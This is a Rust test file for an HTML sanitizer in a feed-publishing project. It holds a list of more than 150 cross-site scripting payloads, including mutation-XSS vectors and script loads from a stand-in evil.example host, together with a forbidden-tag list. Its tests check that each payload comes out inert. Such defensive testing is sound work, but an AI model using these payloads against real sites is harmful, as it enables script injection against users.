//! Nothing active survives: every vector comes out without script, frame, form or foreign address.
#![expect(
    clippy::unwrap_used,
    reason = "an address that does not parse fails the test"
)]

use std::cell::RefCell;

use feedfold::model::Member;
use feedfold::publish::{sanitize, verify};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, Tag, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use url::Url;

use crate::publish_stories::{member, rendered, story};

/// Written for this project. `alert` stands for any script.
const HOSTILE: &[&str] = &[
    // Script elements, whole, cut and nested.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script\u{0}>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><script>alert(1)</script></math>",
    "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
    "<script type=module>import('//evil.example')</script>",
    "<link rel=import href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<base href=javascript:alert(1)//><a href=x>y</a>",
    "<base href=//evil.example/><img src=x>",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src onerror /\" '\"= alt=alert(1)//\">",
    "<p onmouseover=alert(1)>x</p>",
    "<p on\u{0}click=alert(1)>x</p>",
    "<p \u{c}onclick=alert(1)>x</p>",
    "<body onload=alert(1)>",
    "<html onload=alert(1)><head onload=alert(1)>",
    "<div onpointerenter=alert(1) oncontentvisibilityautostatechange=alert(1)>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<table onscroll=alert(1) background=javascript:alert(1)><tr><td background=javascript:alert(1)>",
    "<a href=\"https://a.example/\" onclick=alert(1)>x</a>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onclick=alert(1) tabindex=0>x</custom-element>",
    // Addresses that run.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\rscript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;cript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"java\u{0}script:alert(1)\">x</a>",
    "<a href=\"javascript://a.example/%0aalert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=livescript:x>x</a>",
    "<a href=view-source:javascript:x>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=blob:https://a.example/1>x</a>",
    "<a href=filesystem:https://a.example/1>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=intent://x#Intent;scheme=https;end>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=data:text/html,x>x</q>",
    "<del cite=javascript:alert(1)>x</del>",
    "<area href=javascript:alert(1)><map name=x></map>",
    "<a ping=https://evil.example/ href=https://a.example/>x</a>",
    "<a href=https://a.example/ target=_blank rel=opener>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<bgsound src=javascript:alert(1)><layer src=javascript:alert(1)>",
    // Frames, plug-ins, forms.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=//evil.example><p>x</p>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"><embed src=javascript:alert(1)>",
    "<applet code=x archive=//evil.example/x.jar></applet>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<portal src=//evil.example></portal><fencedframe></fencedframe>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<dialog open><form method=dialog><button>x</button></form></dialog>",
    // Style.
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<div style=\"behavior:url(#default#time2)\">x</div>",
    "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
    // SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><foreignobject><iframe src=javascript:alert(1)></foreignobject></svg>",
    "<svg><image href=javascript:alert(1)></svg>",
    "<svg><desc><script>alert(1)</script></desc></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    // Mutation: text that turns into markup when it is parsed a second time.
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><mglyph></mi><style></math><img src onerror=alert(1)>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<noframes><img title=\"</noframes><img src onerror=alert(1)>\"></noframes>",
    "<xmp><img title=\"</xmp><img src=1 onerror=alert(1)>\"></xmp>",
    "<title><img title=\"</title><img src=1 onerror=alert(1)>\"></title>",
    "<textarea><img title=\"</textarea><img src=1 onerror=alert(1)>\"></textarea>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
    "<select><iframe></select><img src=x: onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p title=\"<!--\"><img src=\"--><img src=x onerror=alert(1)//\">",
    "<table><svg><td><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<svg><p><style><g title=\"</style><img src onerror=alert(1)>\">",
    "a&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>",
    // Comments, declarations and instructions, closed and not.
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!---><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- unclosed <img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "]]><script>alert(1)</script>",
    "</content></entry><entry><id>x</id>",
    // Broken quoting.
    "<img src='x\" onerror=alert(1)",
    "<a href='https://a.example/' title='\"><script>alert(1)</script>'>x</a>",
    "<img alt=\"&quot; onerror=alert(1) x=&quot;\" src=x>",
    "<img alt='`' src=x title='`onerror=alert(1)'>",
    "<a title='&#39; onclick=alert(1) &#39;'>x</a>",
    "<td colspan='\"onclick=alert(1)'>x</td>",
    "<a\u{2028}href=javascript:alert(1)>x</a>",
    "<\u{ff53}cript>alert(1)</\u{ff53}cript>",
    "\u{feff}<script>alert(1)</script>",
    // Identity: nothing to hang a style or a script on.
    "<p id=getElementById name=cookie class=ad>x</p>",
    "<a name=x id=y is=z slot=s part=p contenteditable accesskey=x tabindex=1 autofocus>x</a>",
];

#[test]
fn no_hostile_text_stays_active() {
    let base = Url::parse("https://outlet.example/a/b.html").unwrap();
    for html in HOSTILE {
        for base in [Some(&base), None] {
            let clean = sanitize(html, base);
            assert_inert(html, &clean);
            let again = sanitize(&clean, base);
            assert_inert(html, &again);
            assert_eq!(
                clean, again,
                "parsed a second time, {html:?} becomes something else"
            );
        }
    }
    assert!(HOSTILE.len() >= 150, "{}", HOSTILE.len());
}

#[test]
fn hostile_text_in_any_field_leaves_an_inert_valid_feed() {
    for html in HOSTILE {
        let hostile = || (*html).to_owned();
        let hostile_member = |number| Member {
            title: hostile(),
            link: Some(hostile()),
            feed_title: Some(hostile()),
            feed_link: Some(hostile()),
            feed_id: Some(hostile()),
            authors: vec![hostile()],
            body: Some(hostile()),
            ..member(number)
        };
        let story = story(hostile_member(1), vec![hostile_member(2)]);
        let text = rendered(&[story]).unwrap();
        assert_eq!(verify(text.as_bytes()), Ok(1), "{html}");
        let feed = feed_rs::parser::parse(text.as_bytes()).unwrap();
        let content = feed.entries[0]
            .content
            .as_ref()
            .unwrap()
            .body
            .clone()
            .unwrap();
        assert_inert(html, &content);
        for link in &feed.entries[0].links {
            assert!(link.href.starts_with("http"), "{html}: {}", link.href);
        }
    }
}

#[test]
fn what_an_article_is_made_of_stays() {
    let html = "<h2>标题</h2><p>　　正文<strong>加粗</strong>，<br>换行。</p><ol start=\"2\"><li>一</li></ol>\
        <table><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table><blockquote>引文</blockquote>";
    assert_eq!(sanitize(html, None), html);
}

#[test]
fn addresses_are_resolved_or_dropped() {
    let base = Url::parse("https://outlet.example/a/b.html?c").unwrap();
    let html = "<a href=\"../d?e=1&amp;f=2\">x</a><img src=\"//cdn.example/i.png\"><a href=\"#top\">y</a>\
        <a href=\"mailto:a@b.example\">z</a><img src=\"mailto:a@b.example\">";
    assert_eq!(
        sanitize(html, Some(&base)),
        "<a href=\"https://outlet.example/d?e=1&amp;f=2\" rel=\"noopener noreferrer\">x</a>\
         <img src=\"https://cdn.example/i.png\">\
         <a href=\"https://outlet.example/a/b.html?c#top\" rel=\"noopener noreferrer\">y</a>\
         <a href=\"mailto:a@b.example\" rel=\"noopener noreferrer\">z</a><img>"
    );
    assert_eq!(
        sanitize("<a href=\"../d\">x</a><img src=\"i.png\" alt=\"i\">", None),
        "<a rel=\"noopener noreferrer\">x</a><img alt=\"i\">"
    );
}

#[test]
fn text_nested_a_hundred_thousand_deep_is_saved_as_paragraphs() {
    for open in [
        "<div>",
        "<ul><li>",
        "<blockquote>",
        "<b><div></b>",
        "<span><div></span>",
        "<table><tr><td>",
        "<svg><foreignObject>",
        "<a href=x><p>",
        "<font color=red><p></font>",
    ] {
        let html = format!("<p>Before</p>{}inside", open.repeat(100_000));
        let clean = sanitize(&html, None);
        assert_inert(open, &clean);
        assert!(clean.contains("<p>Before</p>"), "{open}: {}", clean.len());
        assert!(clean.contains("inside") || open.contains("svg"), "{open}");
        assert!(clean.len() < 2 * html.len(), "{open}: {}", clean.len());
    }
}

#[test]
fn text_of_nothing_but_references_and_text_too_long_are_saved_as_paragraphs() {
    for html in [
        "<b>&amp;</b>".repeat(30_000),
        format!("<b>{}</b>", "long ".repeat(500_000)),
    ] {
        let clean = sanitize(&html, None);
        assert!(clean.starts_with("<p>") && !clean.contains("<b>"));
        assert!(
            clean.len() >= 150_000,
            "the text is kept: {} bytes",
            clean.len()
        );
    }
}

#[test]
fn unclosed_formatting_cannot_multiply() {
    for (formats, paragraphs) in [(40, 40), (200, 900), (500, 20_000), (5_000, 5_000)] {
        let opened: Vec<_> = (0..formats)
            .map(|i| format!("<b title={i} lang=a{}>", "x".repeat(1_000)))
            .collect();
        let html = format!(
            "<div>{}</div>{}",
            opened.concat(),
            "<p>x".repeat(paragraphs)
        );
        let clean = sanitize(&html, None);
        assert_eq!(clean.matches('x').count(), paragraphs);
        assert!(
            clean.len() < html.len(),
            "{formats}, {paragraphs}: {}",
            clean.len()
        );
    }
}

/// `NotHtml` of the W3C feed validator: `<p><p></p></p>` has an end tag too many.
#[test]
fn elements_that_only_a_dropped_one_kept_apart_are_taken_apart() {
    for (html, clean) in [
        ("<p>a<marquee><p>b</marquee>", "<p>a</p><p>b</p><p></p>"),
        (
            "<p>a<marquee><h2>b</h2></marquee>c</p>",
            "<p>a</p><h2>b</h2>c<p></p>",
        ),
    ] {
        assert_eq!(sanitize(html, None), clean, "{html}");
    }
}

/// A parser skips a line break right after `<pre>`, so of two the second one counts.
#[test]
fn blank_lines_at_the_head_of_preformatted_text_stay() {
    for (html, clean) in [
        ("<pre>\n a", "<pre> a</pre>"),
        ("<pre dir=ltr>\n\n\n a", "<pre dir=\"ltr\">\n\n\n a</pre>"),
        ("<pre>a</pre><pre>\n\n", "<pre>a</pre><pre>\n\n</pre>"),
    ] {
        assert_eq!(sanitize(html, None), clean, "{html}");
        assert_eq!(sanitize(clean, None), clean);
    }
}

#[test]
fn a_long_table_is_no_bomb() {
    let row = "<tr><td>600000</td><td>浦发银行</td><td>1.23</td></tr>";
    let html = format!("<table><tbody>{}</tbody></table>", row.repeat(5_000));
    let clean = sanitize(&html, None);
    assert!(clean == html, "{} bytes", clean.len());
}

/// Fails unless every tag and attribute is one an article may have.
pub(crate) fn assert_inert(input: &str, html: &str) {
    const ATTRIBUTES: [&str; 18] = [
        "href", "src", "cite", "rel", "title", "alt", "width", "height", "lang", "dir", "colspan",
        "rowspan", "scope", "span", "start", "type", "reversed", "datetime",
    ];
    const FORBIDDEN: [&str; 32] = [
        "script",
        "style",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "form",
        "input",
        "button",
        "select",
        "option",
        "textarea",
        "meta",
        "link",
        "base",
        "svg",
        "math",
        "template",
        "noscript",
        "noembed",
        "noframes",
        "xmp",
        "plaintext",
        "title",
        "video",
        "audio",
        "marquee",
        "portal",
        "foreignobject",
        "animate",
    ];
    for tag in tags(html) {
        assert!(!FORBIDDEN.contains(&&*tag.name), "{input:?} left {html:?}");
        for attribute in &tag.attrs {
            let name = &*attribute.name.local;
            assert!(ATTRIBUTES.contains(&name), "{input:?} left {html:?}");
            if ["href", "src", "cite"].contains(&name) {
                let scheme = Url::parse(&attribute.value).unwrap().scheme().to_owned();
                let allowed = ["http", "https"].contains(&scheme.as_str())
                    || (scheme == "mailto" && name == "href");
                assert!(allowed, "{input:?} left {html:?}");
            }
        }
        if &*tag.name == "a" && !tag.attrs.is_empty() {
            let safe = |a: &html5ever::Attribute| {
                &*a.name.local == "rel" && &*a.value == "noopener noreferrer"
            };
            assert!(tag.attrs.iter().any(safe), "{input:?} left {html:?}");
        }
    }
    assert!(!html.contains("<!"), "{input:?} left {html:?}");
    assert!(!html.contains("<?"), "{input:?} left {html:?}");
}

fn tags(html: &str) -> Vec<Tag> {
    struct Tags(RefCell<Vec<Tag>>);
    impl TokenSink for Tags {
        type Handle = ();
        fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
            if let Token::TagToken(tag) = token {
                self.0.borrow_mut().push(tag);
            }
            TokenSinkResult::Continue
        }
    }
    let tokenizer = Tokenizer::new(Tags(RefCell::default()), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(html));
    let _stopped = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.into_inner()
}
